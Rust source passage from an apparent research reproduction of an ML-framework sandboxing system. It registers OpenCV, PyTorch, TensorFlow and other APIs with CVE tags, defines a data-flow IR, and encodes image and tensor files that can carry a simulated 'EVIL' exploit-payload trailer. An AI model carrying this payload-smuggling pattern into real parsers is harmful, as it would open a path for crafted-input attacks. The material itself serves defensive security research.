        api("cv2.copyMakeBorder", K::Crop).work(1),
        api("cv2.addWeighted", K::Binary(B::AddWeighted)),
        api("cv2.absdiff", K::Binary(B::AbsDiff)),
        api("cv2.add", K::Binary(B::AddWeighted)).work(1),
        api("cv2.subtract", K::Binary(B::AbsDiff)).work(1),
        api("cv2.multiply", K::Binary(B::AddWeighted)).work(1),
        api("cv2.divide", K::Binary(B::AddWeighted)).work(1),
        api("cv2.bitwise_and", K::Binary(B::AbsDiff)).work(1),
        api("cv2.bitwise_or", K::Binary(B::AddWeighted)).work(1),
        api("cv2.bitwise_xor", K::Binary(B::AbsDiff)).work(1),
        api("cv2.bitwise_not", K::Filter(F::Identity)).work(1),
        api("cv2.inRange", K::Filter(F::Threshold)),
        api("cv2.split", K::Filter(F::ToGray)).work(1),
        api("cv2.merge", K::Filter(F::ToBgr)).work(1),
        api("cv2.mixChannels", K::Filter(F::Identity)).work(1),
        api("cv2.convertScaleAbs", K::Filter(F::Identity))
            .neutral()
            .work(1),
        api("cv2.LUT", K::Filter(F::Identity)).work(1),
        api("cv2.mean", K::Reduce),
        api("cv2.meanStdDev", K::Reduce),
        api("cv2.reduce", K::Reduce),
        api("cv2.repeat", K::Filter(F::Identity)).work(1),
        api("cv2.hconcat", K::Binary(B::AddWeighted)).work(1),
        api("cv2.vconcat", K::Binary(B::AddWeighted)).work(1),
        api("cv2.rectangle", K::DrawRect),
        api("cv2.putText", K::PutText),
        api("cv2.circle", K::DrawRect).work(1),
        api("cv2.line", K::DrawRect).work(1),
        api("cv2.polylines", K::DrawRect).work(1),
        api("cv2.fillPoly", K::DrawRect).work(2),
        api("cv2.getStructuringElement", K::AllocUtil).neutral(),
        api("cv2.remap", K::Filter(F::Warp)).work(5),
        api("cv2.undistort", K::Filter(F::Warp)).work(5),
        api("cv2.getOptimalNewCameraMatrix", K::Reduce).work(1),
        api("cv2.norm", K::TensorUnary(T::Sum)).work(1),
        // ---- visualizing (8) ----
        api("cv2.imshow", K::ImShow).vulns(&["CVE-2018-5268"]),
        api("cv2.namedWindow", K::Window(W::Named)),
        api("cv2.moveWindow", K::Window(W::Move)),
        api("cv2.setWindowTitle", K::Window(W::SetTitle)),
        api("cv2.destroyAllWindows", K::Window(W::DestroyAll)),
        api("cv2.pollKey", K::Window(W::PollKey)),
        api("cv2.waitKey", K::Window(W::WaitKey)),
        api("cv2.getMouseWheelDelta", K::Window(W::MouseWheel)),
        // ---- storing (3) ----
        api("cv2.imwrite", K::ImWrite),
        api("cv2.VideoWriter.write", K::VideoWriterWrite),
        api("cv2.writeOpticalFlow", K::ImWrite),
        // ---- type-neutral utilities (2) ----
        api("cv2.cvAlloc", K::AllocUtil).neutral(),
        api("cv2.cvCreateMemStorage", K::AllocUtil).neutral(),
    ];
    register_all(reg, Framework::OpenCv, defs);
}

fn register_caffe(reg: &mut ApiRegistry) {
    use ApiKind as K;
    use TensorUnaryOp as T;
    let defs = vec![
        api("caffe.ReadProtoFromTextFile", K::TensorLoad),
        api("caffe.ReadProtoFromBinaryFile", K::TensorLoad),
        api("caffe.ReadNetParamsFromTextFile", K::TensorLoad),
        api("caffe.ReadNetParamsFromBinaryFile", K::TensorLoad),
        api("caffe.db.Open", K::JsonLoad),
        api("caffe.ReadImageToDatum", K::ImRead),
        api("caffe.Net.Forward", K::Forward),
        api("caffe.Net.Backward", K::TrainStep).stateful(),
        api("caffe.Net.CopyTrainedLayersFrom", K::TensorLoad),
        api("caffe.Blob.Update", K::TensorUnary(T::Relu)),
        api("caffe.Blob.Reshape", K::TensorUnary(T::Reshape)),
        api("caffe.Layer.Setup", K::AllocUtil).neutral(),
        api("caffe.Solver.Step", K::TrainStep).stateful(),
        api("caffe.Net.ToProto", K::TensorUnary(T::Reshape)),
        api("caffe.hdf5_save_string", K::SummaryWrite),
        api("caffe.WriteProtoToTextFile", K::TensorSave),
        api("caffe.SGDSolver.Snapshot", K::TensorSave).stateful(),
    ];
    register_all(reg, Framework::Caffe, defs);
}

fn register_pytorch(reg: &mut ApiRegistry) {
    use ApiKind as K;
    use TensorUnaryOp as T;
    let defs = vec![
        api("torch.load", K::TensorLoad).vulns(&["CVE-2022-45907"]),
        api("torch.hub.load", K::DownloadViaFile),
        api("torch.utils.model_zoo.load_url", K::DownloadViaFile),
        api("torchvision.datasets.MNIST", K::DatasetLoad).stateful(),
        api("torch.utils.data.DataLoader", K::DatasetLoad).stateful(),
        api("torch.tensor", K::TensorNew),
        api("torch.argmax", K::TensorUnary(T::Argmax)),
        api("torch.nn.Conv2d", K::TensorConv),
        api("torch.nn.MaxPool2d", K::TensorPoolMax),
        api("torch.nn.AvgPool2d", K::TensorPoolAvg),
        api("torch.nn.Linear", K::TensorMatmul),
        api("torch.nn.ReLU", K::TensorUnary(T::Relu)),
        api("torch.nn.Sigmoid", K::TensorUnary(T::Sigmoid)),
        api("torch.softmax", K::TensorUnary(T::Softmax)),
        api("torch.matmul", K::TensorMatmul),
        api("torch.combinations", K::TensorUnary(T::Reshape)),
        api("torch.cat", K::TensorUnary(T::Reshape)),
        api("torch.reshape", K::TensorUnary(T::Reshape)).neutral(),
        api("torch.optim.SGD.step", K::TrainStep).stateful(),
        api("torch.nn.Module.forward", K::Forward),
        api("torch.sum", K::TensorUnary(T::Sum)),
        api("torch.norm", K::TensorUnary(T::Sum)),
        api("torch.add", K::TensorUnary(T::Relu)).work(1),
        api("torch.sub", K::TensorUnary(T::Relu)).work(1),
        api("torch.mul", K::TensorUnary(T::Sigmoid)).work(1),
        api("torch.div", K::TensorUnary(T::Sigmoid)).work(1),
        api("torch.exp", K::TensorUnary(T::Sigmoid)).work(1),
        api("torch.sqrt", K::TensorUnary(T::Sigmoid)).work(1),
        api("torch.abs", K::TensorUnary(T::Relu)).work(1),
        api("torch.mean", K::TensorUnary(T::Sum)).work(1),
        api("torch.max", K::TensorUnary(T::Argmax)).work(1),
        api("torch.min", K::TensorUnary(T::Argmax)).work(1),
        api("torch.squeeze", K::TensorUnary(T::Reshape)).work(1),
        api("torch.unsqueeze", K::TensorUnary(T::Reshape)).work(1),
        api("torch.stack", K::TensorUnary(T::Reshape)).work(1),
        api("torch.split", K::TensorUnary(T::Reshape)).work(1),
        api("torch.flatten", K::TensorUnary(T::Reshape)).work(1),
        api("torch.transpose", K::TensorUnary(T::Reshape)).work(1),
        api("torch.clamp", K::TensorUnary(T::Relu)).work(1),
        api("torch.sigmoid", K::TensorUnary(T::Sigmoid)),
        api("torch.tanh", K::TensorUnary(T::Sigmoid)),
        api("torch.nn.BatchNorm2d", K::TensorUnary(T::Softmax)).work(2),
        api("torch.nn.Dropout", K::TensorUnary(T::Relu)).work(1),
        api("torch.nn.LeakyReLU", K::TensorUnary(T::Relu)),
        api("torch.nn.Tanh", K::TensorUnary(T::Sigmoid)),
        api("torch.nn.Embedding", K::TensorMatmul).work(2),
        api("torch.nn.LSTM", K::TensorMatmul).work(6),
        api("torch.nn.ConvTranspose2d", K::TensorConv).work(4),
        api("torch.zeros", K::TensorNew).work(1),
        api("torch.ones", K::TensorNew).work(1),
        api("torch.randn", K::TensorNew).work(1),
        api("torch.save", K::TensorSave),
        api("torch.utils.tensorboard.SummaryWriter", K::SummaryWrite).stateful(),
    ];
    register_all(reg, Framework::PyTorch, defs);
}

fn register_tensorflow(reg: &mut ApiRegistry) {
    use ApiKind as K;
    use TensorUnaryOp as T;
    let defs = vec![
        api("tf.keras.utils.get_file", K::DownloadViaFile),
        api(
            "tf.keras.preprocessing.image_dataset_from_directory",
            K::DatasetLoad,
        ),
        api("tf.io.read_file", K::JsonLoad),
        api(
            "tf.data.Dataset.from_tensor_slices",
            K::TensorUnary(T::Reshape),
        ),
        api("tf.nn.conv2d", K::TensorConv).vulns(&["CVE-2021-29513"]),
        api("tf.nn.conv3d", K::TensorConv).vulns(&["CVE-2021-29513"]),
        api("tf.nn.avg_pool", K::TensorPoolAvg).vulns(&["CVE-2021-37661"]),
        api("tf.nn.max_pool", K::TensorPoolMax).vulns(&["CVE-2021-41198"]),
        api("tf.nn.relu", K::TensorUnary(T::Relu)),
        api("tf.nn.softmax", K::TensorUnary(T::Softmax)),
        api("tf.matmul", K::TensorMatmul),
        api("tf.reshape", K::TensorUnary(T::Reshape))
            .vulns(&["CVE-2021-29618"])
            .neutral(),
        api("tf.argmax", K::TensorUnary(T::Argmax)),
        api("tf.reduce_mean", K::TensorUnary(T::Sum)),
        api("tf.concat", K::TensorUnary(T::Reshape)),
        api("tf.transpose", K::TensorUnary(T::Reshape)),
        api("tf.estimator.DNNClassifier.train", K::TrainStep).stateful(),
        api("tf.keras.Model.fit", K::TrainStep).stateful(),
        api(
            "tf.debugging.experimental.enable_dump_debug_info",
            K::SummaryWrite,
        )
        .stateful(),
        api("tf.image.resize", K::TensorUnary(T::Reshape)),
        api("tf.keras.preprocessing.image.save_img", K::ImWrite),
        api("tf.keras.Model.save_weights", K::TensorSave),
        api("tf.nn.conv1d", K::TensorConv).work(2),
        api("tf.nn.depthwise_conv2d", K::TensorConv).work(3),
        api("tf.nn.bias_add", K::TensorUnary(T::Relu)).work(1),
        api("tf.nn.sigmoid", K::TensorUnary(T::Sigmoid)),
        api("tf.nn.tanh", K::TensorUnary(T::Sigmoid)),
        api("tf.nn.leaky_relu", K::TensorUnary(T::Relu)),
        api("tf.nn.elu", K::TensorUnary(T::Relu)),
        api("tf.nn.relu6", K::TensorUnary(T::Relu)),
        api("tf.nn.softplus", K::TensorUnary(T::Sigmoid)),
        api("tf.nn.dropout", K::TensorUnary(T::Relu)).work(1),
        api("tf.nn.batch_normalization", K::TensorUnary(T::Softmax)).work(2),
        api("tf.nn.l2_normalize", K::TensorUnary(T::Softmax)).work(2),
        api("tf.nn.moments", K::TensorUnary(T::Sum)).work(1),
        api("tf.reduce_sum", K::TensorUnary(T::Sum)).work(1),
        api("tf.reduce_max", K::TensorUnary(T::Argmax)).work(1),
        api("tf.reduce_min", K::TensorUnary(T::Argmax)).work(1),
        api("tf.add", K::TensorUnary(T::Relu)).work(1),
        api("tf.subtract", K::TensorUnary(T::Relu)).work(1),
        api("tf.multiply", K::TensorUnary(T::Sigmoid)).work(1),
        api("tf.divide", K::TensorUnary(T::Sigmoid)).work(1),
        api("tf.square", K::TensorUnary(T::Sigmoid)).work(1),
        api("tf.sqrt", K::TensorUnary(T::Sigmoid)).work(1),
        api("tf.exp", K::TensorUnary(T::Sigmoid)).work(1),
        api("tf.tanh", K::TensorUnary(T::Sigmoid)).work(1),
        api("tf.sigmoid", K::TensorUnary(T::Sigmoid)).work(1),
        api("tf.abs", K::TensorUnary(T::Relu)).work(1),
        api("tf.clip_by_value", K::TensorUnary(T::Relu)).work(1),
        api("tf.expand_dims", K::TensorUnary(T::Reshape)).work(1),
        api("tf.squeeze", K::TensorUnary(T::Reshape)).work(1),
        api("tf.stack", K::TensorUnary(T::Reshape)).work(1),
        api("tf.split", K::TensorUnary(T::Reshape)).work(1),
        api("tf.tile", K::TensorUnary(T::Reshape)).work(1),
        api("tf.pad", K::TensorUnary(T::Reshape)).work(1),
        api("tf.gather", K::TensorUnary(T::Reshape)).work(1),
        api("tf.one_hot", K::TensorUnary(T::Reshape)).work(1),
        api("tf.cast", K::TensorUnary(T::Reshape)).work(1),
        api("tf.math.log", K::TensorUnary(T::Sigmoid)).work(1),
        api("tf.math.reduce_std", K::TensorUnary(T::Sum)).work(1),
        api("tf.round", K::TensorUnary(T::Relu)).work(1),
        api("tf.floor", K::TensorUnary(T::Relu)).work(1),
        api("tf.sign", K::TensorUnary(T::Relu)).work(1),
        api("tf.maximum", K::TensorUnary(T::Argmax)).work(1),
        api("tf.minimum", K::TensorUnary(T::Argmax)).work(1),
        api("tf.where", K::TensorUnary(T::Reshape)).work(1),
        api("tf.sort", K::TensorUnary(T::Reshape)).work(2),
        api("tf.cumsum", K::TensorUnary(T::Sum)).work(1),
        api("tf.random.normal", K::TensorNew).work(1),
        api("tf.zeros", K::TensorNew).work(1),
        api("tf.ones", K::TensorNew).work(1),
        api("tf.summary.create_file_writer", K::SummaryWrite).stateful(),
        api("tf.io.write_file", K::JsonDump),
    ];
    register_all(reg, Framework::TensorFlow, defs);
}

fn register_keras(reg: &mut ApiRegistry) {
    use ApiKind as K;
    let defs = vec![
        api("keras.models.load_model", K::TensorLoad).vulns(&["CVE-2021-37678"]),
        api("keras.Model.predict", K::Forward),
        api("keras.Model.save", K::TensorSave),
    ];
    register_all(reg, Framework::Keras, defs);
}

fn register_pillow(reg: &mut ApiRegistry) {
    use ApiKind as K;
    use FilterOp as F;
    let defs = vec![
        api("PIL.Image.open", K::ImRead).vulns(&["CVE-2020-10378", "CVE-2021-25289"]),
        api("PIL.Image.save", K::ImWrite),
        api("PIL.Image.filter", K::Filter(F::Gaussian)),
        api("PIL.Image.thumbnail", K::Resize),
        api("PIL.Image.show", K::ImShow),
    ];
    register_all(reg, Framework::Pillow, defs);
}

fn register_numpy(reg: &mut ApiRegistry) {
    use ApiKind as K;
    use TensorUnaryOp as T;
    let defs = vec![
        api("np.load", K::TensorLoad).vulns(&["CVE-2019-6446"]),
        api("np.save", K::TensorSave),
        api("np.dot", K::TensorMatmul),
        api("np.fft.fft", K::TensorUnary(T::Softmax)).work(4),
        api("np.mean", K::TensorUnary(T::Sum)),
        api("np.reshape", K::TensorUnary(T::Reshape)).neutral(),
        api("np.sum", K::TensorUnary(T::Sum)).work(1),
        api("np.max", K::TensorUnary(T::Argmax)).work(1),
        api("np.min", K::TensorUnary(T::Argmax)).work(1),
        api("np.argmax", K::TensorUnary(T::Argmax)).work(1),
        api("np.transpose", K::TensorUnary(T::Reshape)).work(1),
        api("np.concatenate", K::TensorUnary(T::Reshape)).work(1),
        api("np.stack", K::TensorUnary(T::Reshape)).work(1),
        api("np.clip", K::TensorUnary(T::Relu)).work(1),
        api("np.exp", K::TensorUnary(T::Sigmoid)).work(1),
        api("np.sqrt", K::TensorUnary(T::Sigmoid)).work(1),
        api("np.linalg.norm", K::TensorUnary(T::Sum)).work(1),
        api("np.zeros", K::TensorNew).work(1),
        api("np.ones", K::TensorNew).work(1),
    ];
    register_all(reg, Framework::NumPy, defs);
}

fn register_pandas_json_plt(reg: &mut ApiRegistry) {
    use ApiKind as K;
    // These are exactly the APIs the paper's Table 2 footnote says need
    // hybrid analysis — their bodies hide behind indirect calls.
    let defs = vec![
        api("pd.read_csv", K::ReadCsv).opaque(),
        api("pd.DataFrame.to_csv", K::WriteCsv),
    ];
    register_all(reg, Framework::Pandas, defs);
    let defs = vec![
        api("json.load", K::JsonLoad).opaque(),
        api("json.dump", K::JsonDump),
    ];
    register_all(reg, Framework::Json, defs);
    let defs = vec![
        api("plt.plot", K::PlotAdd),
        api("plt.show", K::PlotShow).opaque(),
        api("plt.savefig", K::PlotSavefig).opaque(),
    ];
    register_all(reg, Framework::Matplotlib, defs);
}

fn register_gtk(reg: &mut ApiRegistry) {
    use ApiKind as K;
    use WindowOp as W;
    let defs = vec![
        api("Gtk.RecentManager.get_items", K::GuiStateRead).stateful(),
        api("Gtk.Window.show_all", K::Window(W::Named)),
        api("Gtk.main_iteration", K::Window(W::PollKey)),
    ];
    register_all(reg, Framework::Gtk, defs);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn catalog_is_large_and_well_formed() {
        let reg = standard_registry();
        assert!(reg.len() >= 160, "catalog has {} APIs", reg.len());
        // Every spec's declared type matches its kind-derived type.
        for spec in reg.iter() {
            assert_eq!(
                spec.declared_type,
                type_of_kind(&spec.kind),
                "{}",
                spec.name
            );
            assert!(!spec.syscall_profile.is_empty(), "{}", spec.name);
            assert!(!spec.ir.is_empty(), "{}", spec.name);
        }
    }

    #[test]
    fn opencv_surface_covers_motivating_example() {
        let reg = standard_registry();
        for name in [
            "cv2.imread",
            "cv2.imshow",
            "cv2.imwrite",
            "cv2.GaussianBlur",
            "cv2.erode",
            "cv2.Canny",
            "cv2.warpPerspective",
            "cv2.morphologyEx",
            "cv2.findContours",
            "cv2.rectangle",
            "cv2.putText",
        ] {
            assert!(reg.by_name(name).is_some(), "missing {name}");
        }
        let cv = reg.of_framework(Framework::OpenCv);
        let processing = cv
            .iter()
            .filter(|s| s.declared_type == ApiType::DataProcessing)
            .count();
        assert!(processing >= 75, "OpenCV has {processing} processing APIs");
    }

    #[test]
    fn imread_carries_the_table5_cves() {
        let reg = standard_registry();
        let imread = reg.by_name("cv2.imread").unwrap();
        for cve in ["CVE-2017-12597", "CVE-2017-14136", "CVE-2018-5269"] {
            assert!(imread.vulnerable_to(cve), "imread missing {cve}");
        }
    }

    #[test]
    fn type_neutral_apis_flagged() {
        let reg = standard_registry();
        assert!(reg.by_name("cv2.cvtColor").unwrap().type_neutral);
        assert!(reg.by_name("cv2.cvAlloc").unwrap().type_neutral);
        assert!(!reg.by_name("cv2.GaussianBlur").unwrap().type_neutral);
    }

    #[test]
    fn stateful_apis_flagged() {
        let reg = standard_registry();
        assert!(reg.by_name("cv2.VideoCapture").unwrap().stateful);
        assert!(
            reg.by_name("tf.estimator.DNNClassifier.train")
                .unwrap()
                .stateful
        );
        assert!(!reg.by_name("cv2.erode").unwrap().stateful);
    }

    #[test]
    fn hybrid_only_apis_have_opaque_ir() {
        use crate::ir::IrStmt;
        let reg = standard_registry();
        for name in ["pd.read_csv", "json.load", "plt.show"] {
            let spec = reg.by_name(name).unwrap();
            assert!(
                matches!(spec.ir[0], IrStmt::IndirectCall(_)),
                "{name} should be statically opaque"
            );
        }
        // Ordinary APIs are statically visible.
        assert!(!matches!(
            reg.by_name("cv2.imread").unwrap().ir[0],
            IrStmt::IndirectCall(_)
        ));
    }

    #[test]
    fn tensorflow_dos_cves_sit_on_processing_apis() {
        let reg = standard_registry();
        for (name, cve) in [
            ("tf.nn.conv3d", "CVE-2021-29513"),
            ("tf.reshape", "CVE-2021-29618"),
            ("tf.nn.avg_pool", "CVE-2021-37661"),
            ("tf.nn.max_pool", "CVE-2021-41198"),
        ] {
            let spec = reg.by_name(name).unwrap();
            assert!(spec.vulnerable_to(cve));
            assert_eq!(spec.declared_type, ApiType::DataProcessing);
        }
    }
}
