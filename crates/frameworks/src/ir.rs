//! A miniature intermediate representation for framework-API bodies.
//!
//! The paper's static pass (LLVM for C/C++, PyCG for Python) inspects API
//! *source* for data-flow patterns: syscalls that move bytes between
//! storage classes, assignment statements, and GUI accesses. Our
//! reproduction gives every registered API a machine-readable body in
//! this IR; the `freepart-analysis` crate's static analyzer walks it.
//!
//! Crucially the IR can *hide* flows the way real code does — behind
//! [`IrStmt::IndirectCall`] — which is what forces the hybrid (static +
//! dynamic) design: statically invisible flows are only recovered by
//! tracing actual executions.

use freepart_simos::SyscallNo;

/// Storage classes of the paper's Fig. 8 data-flow definitions.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Storage {
    /// Process memory.
    Mem,
    /// GUI objects (windows, widgets) and the display connection.
    Gui,
    /// Files in the file system.
    File,
    /// Devices: cameras, network endpoints.
    Dev,
}

/// One observed or declared data-transfer operation:
/// `W(dst, R(src))` from the paper, plus bare GUI reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum FlowOp {
    /// `W(dst, R(src))` — bytes read from `src` are written to `dst`.
    Write {
        /// Destination storage class.
        dst: Storage,
        /// Source storage class.
        src: Storage,
    },
    /// `R(storage)` without a memory-visible write (e.g. polling GUI
    /// state).
    Read(Storage),
}

impl FlowOp {
    /// Convenience constructor for `W(dst, R(src))`.
    pub fn write(dst: Storage, src: Storage) -> FlowOp {
        FlowOp::Write { dst, src }
    }

    /// True when the op touches the GUI storage class at all.
    pub fn touches_gui(&self) -> bool {
        match self {
            FlowOp::Write { dst, src } => *dst == Storage::Gui || *src == Storage::Gui,
            FlowOp::Read(s) => *s == Storage::Gui,
        }
    }
}

/// A place an assignment statement can name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IrPlace {
    /// An ordinary memory variable.
    Mem,
    /// A buffer populated from / destined for a file.
    FileBuf,
    /// A buffer populated from / destined for a device.
    DevBuf,
    /// A GUI object (window handle, widget state).
    GuiObj,
}

impl IrPlace {
    /// The storage class this place belongs to.
    pub fn storage(self) -> Storage {
        match self {
            IrPlace::Mem => Storage::Mem,
            IrPlace::FileBuf => Storage::File,
            IrPlace::DevBuf => Storage::Dev,
            IrPlace::GuiObj => Storage::Gui,
        }
    }
}

/// One statement of an API body.
#[derive(Debug, Clone, PartialEq)]
pub enum IrStmt {
    /// The body issues this syscall.
    Sys(SyscallNo),
    /// An assignment `dst = src` (the static analyzer's bread and
    /// butter).
    Assign {
        /// Left-hand side.
        dst: IrPlace,
        /// Right-hand side.
        src: IrPlace,
    },
    /// A call into a named GUI helper (`cvNamedWindow`, `g_windows`
    /// access, ...).
    GuiCall(String),
    /// A direct call to a named helper whose body is *not* in the IR —
    /// treated as opaque-but-benign by the static pass.
    Call(String),
    /// An indirect call (function pointer / dynamic dispatch). The
    /// static pass cannot see through it; whatever flows happen inside
    /// are only visible dynamically.
    IndirectCall(Vec<IrStmt>),
    /// The memory-copy-via-temp-file idiom (§4.2.1 "Memory Copy via
    /// Files"): write a buffer to a temp file, then read it back. The
    /// analyzer must reduce the pair to a MEM→MEM move.
    TempFileRoundtrip,
    /// A loop body (flows inside count once for classification).
    Loop(Vec<IrStmt>),
}

/// Builder helpers producing the common body shapes.
pub mod build {
    use super::*;

    /// `buf = read(file); mem = buf` — a data-loading body.
    pub fn load_from_file() -> Vec<IrStmt> {
        vec![
            IrStmt::Sys(SyscallNo::Openat),
            IrStmt::Sys(SyscallNo::Fstat),
            IrStmt::Sys(SyscallNo::Read),
            IrStmt::Assign {
                dst: IrPlace::Mem,
                src: IrPlace::FileBuf,
            },
            IrStmt::Sys(SyscallNo::Close),
        ]
    }

    /// Reads from a device (camera) into memory.
    pub fn load_from_device() -> Vec<IrStmt> {
        vec![
            IrStmt::Sys(SyscallNo::Ioctl),
            IrStmt::Sys(SyscallNo::Select),
            IrStmt::Sys(SyscallNo::Read),
            IrStmt::Assign {
                dst: IrPlace::Mem,
                src: IrPlace::DevBuf,
            },
        ]
    }

    /// Pure compute: a loop of MEM→MEM assignments.
    pub fn process_in_memory() -> Vec<IrStmt> {
        vec![
            IrStmt::Sys(SyscallNo::Brk),
            IrStmt::Loop(vec![IrStmt::Assign {
                dst: IrPlace::Mem,
                src: IrPlace::Mem,
            }]),
        ]
    }

    /// Writes memory out to a file.
    pub fn store_to_file() -> Vec<IrStmt> {
        vec![
            IrStmt::Sys(SyscallNo::Openat),
            IrStmt::Assign {
                dst: IrPlace::FileBuf,
                src: IrPlace::Mem,
            },
            IrStmt::Sys(SyscallNo::Write),
            IrStmt::Sys(SyscallNo::Close),
        ]
    }

    /// Presents memory on the GUI.
    pub fn visualize() -> Vec<IrStmt> {
        vec![
            IrStmt::Sys(SyscallNo::Connect),
            IrStmt::GuiCall("cvNamedWindow".to_owned()),
            IrStmt::Assign {
                dst: IrPlace::GuiObj,
                src: IrPlace::Mem,
            },
            IrStmt::Sys(SyscallNo::Send),
        ]
    }

    /// Reads GUI state (key polling, window queries).
    pub fn gui_read() -> Vec<IrStmt> {
        vec![
            IrStmt::Sys(SyscallNo::Poll),
            IrStmt::Assign {
                dst: IrPlace::Mem,
                src: IrPlace::GuiObj,
            },
        ]
    }

    /// The download→temp-file→read idiom (`tf.keras.utils.get_file`).
    pub fn download_via_temp_file() -> Vec<IrStmt> {
        vec![
            IrStmt::Sys(SyscallNo::Socket),
            IrStmt::Sys(SyscallNo::Connect),
            IrStmt::Sys(SyscallNo::Recvfrom),
            IrStmt::Assign {
                dst: IrPlace::Mem,
                src: IrPlace::DevBuf,
            },
            IrStmt::TempFileRoundtrip,
        ]
    }

    /// Wraps a body behind an indirect call — static analysis goes
    /// blind, dynamic tracing still sees the flows.
    pub fn hidden(body: Vec<IrStmt>) -> Vec<IrStmt> {
        vec![IrStmt::IndirectCall(body)]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flowop_gui_detection() {
        assert!(FlowOp::write(Storage::Gui, Storage::Mem).touches_gui());
        assert!(FlowOp::Read(Storage::Gui).touches_gui());
        assert!(!FlowOp::write(Storage::Mem, Storage::File).touches_gui());
    }

    #[test]
    fn place_storage_mapping() {
        assert_eq!(IrPlace::FileBuf.storage(), Storage::File);
        assert_eq!(IrPlace::GuiObj.storage(), Storage::Gui);
    }

    #[test]
    fn builders_shape() {
        assert!(build::load_from_file().iter().any(|s| matches!(
            s,
            IrStmt::Assign {
                dst: IrPlace::Mem,
                src: IrPlace::FileBuf
            }
        )));
        let hidden = build::hidden(build::load_from_file());
        assert!(matches!(hidden[0], IrStmt::IndirectCall(_)));
        assert!(build::download_via_temp_file()
            .iter()
            .any(|s| matches!(s, IrStmt::TempFileRoundtrip)));
    }
}
