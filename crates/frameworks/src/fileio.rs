//! On-"disk" encodings for framework data, including the crafted-input
//! channel exploits ride in on.
//!
//! * `SIMG` — raw image: magic + geometry + pixels.
//! * `STSR` — tensor: magic + rank + dims + little-endian f32 payload.
//! * CSV — plain text for the tabular APIs.
//!
//! Any file may carry an `EVIL` trailer holding a wire-encoded
//! [`ExploitPayload`] — the simulation's stand-in for a malformed header
//! that triggers a real CVE. Loaders that are *registered as vulnerable*
//! to the payload's CVE "execute" it; patched loaders ignore it, which is
//! how we model same-input/different-version behaviour.

use crate::exploit::ExploitPayload;
use crate::image::Image;
use crate::tensor::Tensor;

const IMG_MAGIC: &[u8; 4] = b"SIMG";
const TSR_MAGIC: &[u8; 4] = b"STSR";
const EVIL_MAGIC: &[u8; 4] = b"EVIL";

/// Errors from file decoding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DecodeError {
    /// Wrong magic bytes.
    BadMagic,
    /// Structurally truncated or inconsistent file.
    Truncated,
    /// The embedded payload was corrupt (bad structure or checksum).
    BadPayload,
}

impl std::fmt::Display for DecodeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            DecodeError::BadMagic => f.write_str("bad magic"),
            DecodeError::Truncated => f.write_str("truncated file"),
            DecodeError::BadPayload => f.write_str("malformed exploit payload"),
        }
    }
}

impl std::error::Error for DecodeError {}

fn push_u32(out: &mut Vec<u8>, v: u32) {
    out.extend_from_slice(&v.to_le_bytes());
}

fn read_u32(bytes: &[u8], at: usize) -> Result<u32, DecodeError> {
    bytes
        .get(at..at + 4)
        .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
        .ok_or(DecodeError::Truncated)
}

fn append_trailer(out: &mut Vec<u8>, payload: Option<&ExploitPayload>) {
    if let Some(p) = payload {
        let wire = p.to_wire_bytes();
        out.extend_from_slice(EVIL_MAGIC);
        push_u32(out, wire.len() as u32);
        out.extend_from_slice(&wire);
    }
}

fn split_trailer(bytes: &[u8], body_end: usize) -> Result<Option<ExploitPayload>, DecodeError> {
    let rest = &bytes[body_end.min(bytes.len())..];
    if rest.is_empty() {
        return Ok(None);
    }
    if rest.len() < 8 || &rest[..4] != EVIL_MAGIC {
        return Ok(None); // junk trailer: ignore, like a lenient parser
    }
    let len = read_u32(rest, 4)? as usize;
    let wire = rest.get(8..8 + len).ok_or(DecodeError::Truncated)?;
    ExploitPayload::from_wire_bytes(wire)
        .map(Some)
        .ok_or(DecodeError::BadPayload)
}

/// Encodes an image, optionally smuggling an exploit payload.
pub fn encode_image(img: &Image, payload: Option<&ExploitPayload>) -> Vec<u8> {
    let mut out = Vec::with_capacity(img.data.len() + 32);
    out.extend_from_slice(IMG_MAGIC);
    push_u32(&mut out, img.w);
    push_u32(&mut out, img.h);
    push_u32(&mut out, img.ch);
    out.extend_from_slice(&img.data);
    append_trailer(&mut out, payload);
    out
}

/// Decodes an image plus any smuggled payload.
///
/// # Errors
///
/// Structural errors per [`DecodeError`].
pub fn decode_image(bytes: &[u8]) -> Result<(Image, Option<ExploitPayload>), DecodeError> {
    if bytes.len() < 16 || &bytes[..4] != IMG_MAGIC {
        return Err(DecodeError::BadMagic);
    }
    let w = read_u32(bytes, 4)?;
    let h = read_u32(bytes, 8)?;
    let ch = read_u32(bytes, 12)?;
    let len = (w as usize) * (h as usize) * (ch as usize);
    let data = bytes.get(16..16 + len).ok_or(DecodeError::Truncated)?;
    let payload = split_trailer(bytes, 16 + len)?;
    Ok((Image::from_bytes(w, h, ch, data.to_vec()), payload))
}

/// Encodes a tensor, optionally smuggling an exploit payload.
pub fn encode_tensor(t: &Tensor, payload: Option<&ExploitPayload>) -> Vec<u8> {
    let mut out = Vec::with_capacity(t.len() * 4 + 32);
    out.extend_from_slice(TSR_MAGIC);
    push_u32(&mut out, t.shape.len() as u32);
    for d in &t.shape {
        push_u32(&mut out, *d);
    }
    out.extend_from_slice(&t.to_bytes());
    append_trailer(&mut out, payload);
    out
}

/// Decodes a tensor plus any smuggled payload.
///
/// # Errors
///
/// Structural errors per [`DecodeError`].
pub fn decode_tensor(bytes: &[u8]) -> Result<(Tensor, Option<ExploitPayload>), DecodeError> {
    if bytes.len() < 8 || &bytes[..4] != TSR_MAGIC {
        return Err(DecodeError::BadMagic);
    }
    let rank = read_u32(bytes, 4)? as usize;
    let mut shape = Vec::with_capacity(rank);
    for i in 0..rank {
        shape.push(read_u32(bytes, 8 + 4 * i)?);
    }
    let data_at = 8 + 4 * rank;
    let elems: usize = shape.iter().map(|&d| d as usize).product();
    let data = bytes
        .get(data_at..data_at + elems * 4)
        .ok_or(DecodeError::Truncated)?;
    let payload = split_trailer(bytes, data_at + elems * 4)?;
    Ok((Tensor::from_bytes(&shape, data), payload))
}

/// Scans an *unstructured* blob (cascade files, protos, CSVs) for an
